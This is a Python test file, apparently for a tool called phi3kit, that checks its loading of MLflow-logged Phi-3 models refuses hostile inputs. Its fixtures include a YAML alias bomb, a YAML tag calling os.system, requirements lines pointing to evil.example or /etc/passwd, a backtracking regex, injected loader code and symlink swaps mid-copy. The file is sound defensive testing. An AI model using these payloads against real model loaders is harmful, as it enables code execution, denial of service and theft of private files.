        behind_the_judge(lambda: put_in_place(folder / "model" / "model.safetensors", kind))
        with pytest.raises(SourceInvalid, match=r"model\.safetensors is gone, or a link or a pipe"):
            copy_known(folder, "transformers", tmp_path / "known")
        assert not (tmp_path / "known" / "model.safetensors").exists()

    @pytest.mark.parametrize("levels", [0, 1, 2])
    def test_so_is_a_folder_on_the_way(
        self, weights: Path, tmp_path: Path, behind_the_judge: Callable[[Callable[[], None]], None], levels: int
    ) -> None:
        """The private folder behind the link has files of the same names."""
        inside = tmp_path / "a" / "b" / "model"
        shutil.copytree(weights, inside)
        (inside / "README.md").write_text("public")
        moved = [inside, *inside.parents][levels]

        def swap() -> None:
            moved.rename(tmp_path / "private")
            moved.symlink_to(tmp_path / "private")

        behind_the_judge(swap)
        with pytest.raises(SourceInvalid, match="It changes while it is copied"):
            copy_model("hostile", [inside], tmp_path / "known")
        assert not list((tmp_path / "known").iterdir())

    @pytest.mark.parametrize("kind", ["link", "pipe"])
    def test_of_a_config_is_not_read_by_the_judge_either(self, weights: Path, kind: str, tmp_path: Path) -> None:
        found = model_folder.files_in(weights)
        put_in_place(weights / "config.json", kind)
        with pytest.raises(OSError, match=r"symbolic links|No regular file"):
            open_real(found["config.json"])

    @pytest.mark.parametrize("kind", ["link", "pipe", "another file"])
    def test_between_a_files_opening_and_its_second_name_is_taken_back(
        self, weights: Path, monkeypatch: pytest.MonkeyPatch, kind: str
    ) -> None:
        path, second, link = weights / "model.safetensors", weights / "second", os.link

        def swap_and_link(*arguments: Any, **named: Any) -> None:
            put_in_place(path, kind)
            if kind == "another file":
                path.write_text("another")
            link(*arguments, **named)

        monkeypatch.setattr(os, "link", swap_and_link)
        with pytest.raises(model_copy.FileChanged, match=r"model\.safetensors was replaced"):
            link_or_copy(path, second)
        assert not os.path.lexists(second)


class TestOddValues:
    """Each is a sentence, and no error of Python's own."""

    @pytest.mark.parametrize("shape", ["[Infinity, 256]", "[1e400]", '["4096", 256]', "[4096.0, 256]", "[null]", "5"])
    def test_a_shape_has_whole_numbers(self, weights: Path, shape: str) -> None:
        header = f'{{"model.embed_tokens.weight":{{"dtype":"F16","shape":{shape},"data_offsets":[0,2]}}}}'.encode()
        size = (weights / "model.safetensors").stat().st_size
        with (weights / "model.safetensors").open("wb") as file:
            file.write(len(header).to_bytes(8, "little") + header)
            file.truncate(size)
        assert refusal(weights) == "model.safetensors is damaged: its header cannot be read."

    @pytest.mark.parametrize("kind", [["Fuse"], {"a": 1}, 5, None])
    def test_the_type_of_a_step_is_a_word(self, weights: Path, kind: Any) -> None:
        edit_json(weights / "tokenizer.json", decoder={"type": kind})
        assert refusal(weights) == f"Its tokenizer.json has a step {str(kind)!r}, which phi3kit does not support."

    @pytest.mark.parametrize(
        ("name", "values"),
        [
            ("config.json", {"transformers_version": "\ud800"}),
            ("tokenizer_config.json", {"chat_template": "\ud800"}),
            ("tokenizer.json", {"version": "\udfff"}),
        ],
    )
    def test_half_a_character_is_refused(self, weights: Path, name: str, values: dict[str, Any]) -> None:
        edit_json(weights / name, **values)
        assert refusal(weights) == f"Its {name} has half a character, or parts that are nested too deeply."

    def test_half_a_character_of_a_name_or_an_architecture_can_be_printed(self, weights: Path) -> None:
        edit_json(weights / "config.json", architectures=["\ud800"])
        assert refusal(weights) == "Its config.json names \N{REPLACEMENT CHARACTER}; Phi3ForCausalLM is needed."

    @pytest.mark.parametrize("providers", [5, "cuda", True, {"cuda": {}}])
    def test_providers_are_a_list(self, exported: Path, providers: Any) -> None:
        edit_decoder(exported, session_options={"provider_options": providers})
        assert re.match(r"It was made for (5|cuda|True), and this machine's CPU cannot run it\.", refusal(exported))

    @pytest.mark.parametrize("name", ["config.json", "generation_config.json", "tokenizer_config.json"])
    def test_a_config_of_megabytes_is_not_read(self, weights: Path, name: str) -> None:
        content = read(weights / name)
        (weights / name).write_text(json.dumps(content) + " " * 1_000_000)
        assert re.match(rf"Its {name} cannot be read", refusal(weights))

    def test_nor_is_a_tokenizer_or_an_index_of_many(self, weights: Path) -> None:
        content = (weights / "tokenizer.json").read_text()
        (weights / "tokenizer.json").write_text(content + " " * 2_000_000)
        shutil.rmtree(copied(weights))
        (weights / "tokenizer.json").write_text(content + " " * 32_000_000)
        assert refusal(weights) == "Its tokenizer.json cannot be read as a JSON object."
        (weights / "model.safetensors.index.json").write_text(" " * 2_000_001)
        shutil.rmtree(weights.with_name("known"))
        assert refusal(weights).startswith("Its model.safetensors.index.json cannot be read")


class TestLoggedModel:
    """Another program logged it: a worker judges it as a build does."""

    def logged(self, wrapper: WrapperName, built: Built, tmp_path: Path) -> Path:
        shutil.copytree(resolve(built.uri(wrapper), built.settings).folder, tmp_path / "logged")
        return tmp_path / "logged"

    def why(self, folder: Path, wrapper: WrapperName) -> str:
        with pytest.raises(ModelNotFound) as refused:
            load_runtime(folder, wrapper, 1)
        return refused.value.why

    def test_layers_without_end_are_refused(self, built: Built, tmp_path: Path) -> None:
        folder = self.logged("transformers", built, tmp_path)
        edit_json(folder / "model/config.json", num_hidden_layers=100_000)
        assert "num_hidden_layers in its config.json is 100,000" in self.why(folder, "transformers")

    def test_an_operator_of_somebody_elses_is_refused_before_a_session_opens(
        self, built: Built, tmp_path: Path
    ) -> None:
        folder = self.logged("onnx", built, tmp_path)
        (graph,) = folder.rglob("model.onnx")
        edit_graph(graph.parent, add_node("Anything", "evil.ops"))
        assert "the operator 'Anything' of 'evil.ops'" in self.why(folder, "onnx")

    def test_weights_outside_are_refused(self, built: Built, tmp_path: Path) -> None:
        folder = self.logged("onnx", built, tmp_path)
        (data,) = folder.rglob("model.onnx.data")
        data.rename(tmp_path / "outside.data")
        data.symlink_to(tmp_path / "outside.data")
        assert "which is not a file in the folder" in self.why(folder, "onnx")

    @pytest.mark.parametrize("wrapper", ["transformers", "onnx"])
    def test_a_folder_outside_is_refused(self, wrapper: WrapperName, built: Built, tmp_path: Path) -> None:
        folder = self.logged(wrapper, built, tmp_path)
        (inside,) = folder.glob("model" if wrapper == "transformers" else "artifacts/*")
        shutil.copytree(inside, tmp_path / "outside")
        described = (folder / "MLmodel").read_text()
        (folder / "MLmodel").write_text(
            described.replace("model_binary: model", "model_binary: ../outside").replace(
                f"path: artifacts/{inside.name}", "path: ../outside"
            )
        )
        assert "'../outside', which is elsewhere" in self.why(folder, wrapper)

    @pytest.mark.parametrize("wrapper", WRAPPERS)
    def test_weights_beyond_the_data_folder_are_those_that_were_judged(
        self, wrapper: WrapperName, built: Built, tmp_path: Path
    ) -> None:
        folder, known = self.logged(wrapper, built, tmp_path), tmp_path / "known"
        copy_known(folder, wrapper, known)
        before = {path.name: path.read_bytes() for path in known.iterdir()}
        for path in folder.rglob("*"):
            if path.is_file():
                path.write_bytes(b"changed")
        assert {path.name: path.read_bytes() for path in known.iterdir()} == before

    @pytest.mark.parametrize("wrapper", WRAPPERS)
    def test_weights_of_the_data_folder_are_not_copied(
        self, wrapper: WrapperName, built: Built, tmp_path: Path
    ) -> None:
        folder = resolve(built.uri(wrapper), built.settings).folder
        copy_known(folder, wrapper, tmp_path / "known", built.settings.home)
        linked = {path.suffix for path in (tmp_path / "known").iterdir() if path.is_symlink()}
        assert linked == ({".safetensors"} if wrapper == "transformers" else {".onnx", ".data"})

    def test_a_tokenizer_that_may_take_for_ever_is_refused(self, built: Built, tmp_path: Path) -> None:
        folder = self.logged("transformers", built, tmp_path)
        pattern = {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False}
        edit_json(folder / "components/tokenizer/tokenizer.json", pre_tokenizer=pattern)
        assert "splits by a pattern" in self.why(folder, "transformers")


BOMB = "a0: &a0 {x: 1}\n" + "".join(
    f"a{at}: &a{at} {{<<: [{', '.join([f'*a{at - 1}'] * 9)}]}}\n" for at in range(1, 25)
)


class Placed:
    """A logged model in a store of its own, whose MLmodel says something else."""

    def __init__(self, built: Built, home: Path) -> None:
        self.settings = new_store(home)
        experiment = experiment_id(self.settings, BUILDS_EXPERIMENT)
        made = open_store(self.settings).create_logged_model(experiment, name="evil")
        self.uri = f"models:/{made.model_id}"
        self.folder = Path(local_file_uri_to_path(made.artifact_location))
        shutil.copytree(resolve(built.uri("onnx"), built.settings).folder, self.folder, dirs_exist_ok=True)

    def change(self, change: Callable[[dict[str, Any]], object]) -> None:
        described = yaml.safe_load((self.folder / "MLmodel").read_text())
        change(described)
        (self.folder / "MLmodel").write_text(yaml.safe_dump(described))

    def refusals(self) -> list[str]:
        """What the app and the worker say."""
        said = []
        for ask in (
            lambda: resolve(self.uri, self.settings),
            lambda: signature_of(self.uri, self.settings),
            lambda: files_of(self.uri, self.settings),
            lambda: load_runtime(self.folder, "onnx", 1),
            lambda: azure.plan_bundle(self.uri, ADMIN, self.settings),
        ):
            with pytest.raises(ModelNotFound) as refused:
                ask()
            said.append(refused.value.why)
        return said


@pytest.fixture
def placed(built: Built, tmp_path: Path) -> Placed:
    return Placed(built, tmp_path)


def nested(levels: int) -> str:
    kind: dict[str, Any] = {"type": "string"}
    for _ in range(levels):
        kind = {"type": "object", "properties": {"a": {**kind, "required": True}}}
    return json.dumps([{**kind, "name": "x", "required": True}])


class TestMlmodel:
    """The app, the worker and the bundle for Azure read it the same way."""

    @pytest.mark.parametrize(
        "before",
        [
            BOMB,
            "a: &a {x: 1}\nb: {<<: *a}\n",
            "x: " + "[" * 5000 + "\n",
            "x: " + ":".join(["1"] * 2000) + "\n",
            "x: !!int ''\n",
            "x: 2024-99-99\n",
            "# " + "x" * 10**6 + "\n",
            "? [1]\n: x\n",
        ],
        ids=lambda before: before[:12],
    )
    def test_one_that_is_more_than_it_seems_is_damaged(self, placed: Placed, before: str) -> None:
        path = placed.folder / "MLmodel"
        path.write_text(before + path.read_text())
        assert all("missing or damaged" in why for why in placed.refusals())

    def test_one_that_is_a_pipe_or_a_link_to_elsewhere_is_not_read(self, placed: Placed, tmp_path: Path) -> None:
        path = placed.folder / "MLmodel"
        path.rename(tmp_path / "outside")
        path.symlink_to(tmp_path / "outside")
        assert all("missing or damaged" in why for why in placed.refusals())
        path.unlink()
        os.mkfifo(path)
        assert all("missing or damaged" in why for why in placed.refusals())

    @pytest.mark.parametrize(
        "values",
        [
            {"flavors": [1]},
            {"flavors": {5: {}}},
            {"flavors": {"python_function": [1]}},
            {"flavors": {"python_function": {"artifacts": "phi3-mini-onnx"}}},
            {"flavors": {"python_function": {"artifacts": {"phi3-mini-onnx": {"x": 1}}}}},
            {"flavors": {"python_function": {"artifacts": {"phi3-mini-onnx": 1}, "model_code_path": 5}}},
            {"metadata": [1]},
            {"signature": {"inputs": nested(200)}},
            {"signature": {"inputs": [1]}},
            {"signature": {"inputs": "[" * 10**4}},
            {"signature": [1]},
        ],
        ids=str,
    )
    def test_parts_of_another_kind_are_a_sentence(self, placed: Placed, values: dict[str, Any]) -> None:
        placed.change(lambda described: described.update(values))
        assert all("Its " in why for why in placed.refusals())

    def test_a_signature_that_mlflow_cannot_read_is_a_sentence(self, placed: Placed) -> None:
        placed.change(lambda described: described.update(signature={"inputs": '[{"type": 5}]'}))
        with pytest.raises(ModelNotFound, match="cannot be read"):
            signature_of(placed.uri, placed.settings)

    @pytest.mark.parametrize("window", ["abc", "-5", "9" * 50])
    def test_a_window_that_is_no_number_is_none(self, placed: Placed, window: str) -> None:
        placed.change(lambda described: described["metadata"].update({"phi3kit.sliding_window": window}))
        sliding_window.cache_clear()
        assert sliding_window(placed.folder, "onnx") is None

    def test_a_version_whose_source_is_no_model_is_a_sentence(self, placed: Placed) -> None:
        client = open_store(placed.settings)
        client.create_registered_model("evil")
        with scripted(http_answer(200, "x" * 50, "text/plain")) as server:
            version = client.create_model_version("evil", f"{server.url}/x").version
            for ask in (resolve, signature_of, files_of):
                with pytest.raises(ModelNotFound):
                    ask(f"models:/evil/{version}", placed.settings)

    def test_a_version_whose_source_is_a_private_folder_lists_none_of_its_files(
        self, placed: Placed, tmp_path: Path
    ) -> None:
        private = tmp_path / "private"
        private.mkdir()
        (private / "id_rsa").write_text("secret")
        client = open_store(placed.settings)
        client.create_registered_model("evil")
        version = client.create_model_version("evil", private.as_uri()).version
        for ask in (resolve, signature_of, files_of):
            with pytest.raises(ModelNotFound) as refused:
                ask(f"models:/evil/{version}", placed.settings)
            assert refused.value.why == "Its MLmodel file is missing or damaged."


class TestAzureBundle:
    @pytest.mark.parametrize(
        "line", ["--extra-index-url http://evil.example/simple", "evil @ http://evil.example/x.whl", "-r /etc/passwd"]
    )
    def test_takes_no_requirement_that_leads_elsewhere(self, placed: Placed, line: str) -> None:
        with (placed.folder / "requirements.txt").open("a") as file:
            file.write(f"\n{line}\n")
        with pytest.raises(ModelNotFound, match="could install any package"):
            azure.plan_bundle(placed.uri, ADMIN, placed.settings)

    def test_takes_no_private_text_by_a_link_and_waits_for_no_pipe(self, placed: Placed, tmp_path: Path) -> None:
        path = placed.folder / "requirements.txt"
        path.rename(tmp_path / "private")
        path.symlink_to(tmp_path / "private")
        with pytest.raises(ModelNotFound, match="link to elsewhere"):
            azure.plan_bundle(placed.uri, ADMIN, placed.settings)
        path.unlink()
        os.mkfifo(path)
        with pytest.raises(ModelNotFound, match="No regular file"):
            azure.plan_bundle(placed.uri, ADMIN, placed.settings)

    @pytest.mark.parametrize("place", ["file", "folder", "pipe", "another size"])
    def test_holds_what_was_planned_and_nothing_that_came_in_its_place(
        self, placed: Placed, tmp_path: Path, place: str
    ) -> None:
        bundle = azure.plan_bundle(placed.uri, ADMIN, placed.settings)
        (path,) = placed.folder.rglob("tokenizer_config.json")
        if place == "another size":
            path.write_bytes(path.read_bytes() + b" ")
        elif place == "pipe":
            path.unlink()
            os.mkfifo(path)
        else:  # a link to the like elsewhere
            moved = path if place == "file" else path.parent
            moved.rename(tmp_path / "private")
            moved.symlink_to(tmp_path / "private")
        with pytest.raises(
            ModelNotFound, match=r"(symbolic links|Not a directory|No regular file|has changed): model/artifacts/"
        ):
            azure.write_bundle(bundle, BytesIO())

    @pytest.mark.parametrize("python", [None, "evil\nx", "2.7"])
    def test_takes_no_python_that_is_no_version(self, placed: Placed, python: str | None) -> None:
        placed.change(lambda described: described["flavors"]["python_function"].update(python_version=python))
        with pytest.raises(ModelNotFound, match="Python version"):
            azure.plan_bundle(placed.uri, ADMIN, placed.settings)


QUESTIONS = {
    "onnx": {"prompt": "<|user|>\nWhat is the capital of Spain?<|end|>\n<|assistant|>\n"},
    "transformers": {"messages": [{"role": "user", "content": "What is the capital of Spain?"}], "max_tokens": 20},
}


class TestInvocations:
    """MLflow runs the code that a logged model names: the worker's /invocations gives it a copy that names phi3kit's."""

    @pytest.mark.parametrize("wrapper", ["onnx", "transformers"])
    def test_run_no_code_of_the_logged_model(self, wrapper: WrapperName, built: Built, tmp_path: Path) -> None:
        folder = tmp_path / "logged"
        shutil.copytree(resolve(built.uri(wrapper), built.settings).folder, folder)
        code = f"open({str(tmp_path / 'was-run')!r}, 'w')\n"
        for path in (folder / "onnx_wrapper.py", folder / "model" / "evil.py", folder / "components/tokenizer/evil.py"):
            if path.parent.is_dir():
                path.write_text(f"{code}class C: pass\n")
        for config in folder.rglob("*config.json"):
            if config.name in ("config.json", "tokenizer_config.json"):
                edit_json(
                    config,
                    auto_map={
                        "AutoConfig": "evil.C",
                        "AutoModelForCausalLM": "evil.C",
                        "AutoTokenizer": ["evil.C", None],
                    },
                )
        said = answer(load_known(folder, wrapper), json.dumps(QUESTIONS[wrapper]), "application/json")
        assert (said["status"], "Madrid" in said["content"]) == (200, True)
        assert not (tmp_path / "was-run").exists()

    @pytest.mark.parametrize(
        ("old", "new"),
        [
            ("loader_module: mlflow.pyfunc.loaders.code_model", "loader_module: antigravity"),
            ("loader_module: mlflow.pyfunc.loaders.code_model", "loader_module: mlflow.pyfunc.model"),
            ("flavors:", "flavors: !!python/object/apply:os.system [true]\nmore:"),
            ("flavors:", "x: " + "x" * 10**6 + "\nflavors:"),
        ],
        ids=["any module", "pickles", "objects of YAML", "a huge file"],
    )
    def test_load_nothing_that_phi3kit_does_not_log(self, built: Built, tmp_path: Path, old: str, new: str) -> None:
        folder = tmp_path / "logged"
        shutil.copytree(resolve(built.uri("onnx"), built.settings).folder, folder)
        described = (folder / "MLmodel").read_text()
        assert old in described
        (folder / "MLmodel").write_text(described.replace(old, new))
        with pytest.raises((SourceInvalid, YAMLError)):
            load_known(folder, "onnx")

    def test_a_config_out_of_range_is_refused(self, placed: Placed) -> None:
        placed.change(lambda described: described["flavors"]["python_function"].update(config={"max_tokens": -5}))
        with pytest.raises(SourceInvalid, match=r"a config that phi3kit does not support: \{'max_tokens': -5\}"):
            load_known(placed.folder, "onnx")

    def test_a_path_to_more_code_is_not_followed(self, built: Built, tmp_path: Path) -> None:
        folder = tmp_path / "logged"
        shutil.copytree(resolve(built.uri("onnx"), built.settings).folder, folder)
        (folder / "MLmodel").write_text((folder / "MLmodel").read_text().replace("code: null", "code: evil"))
        copy_logged(folder, "onnx", tmp_path / "known")
        assert "evil" not in (tmp_path / "known" / "MLmodel").read_text()
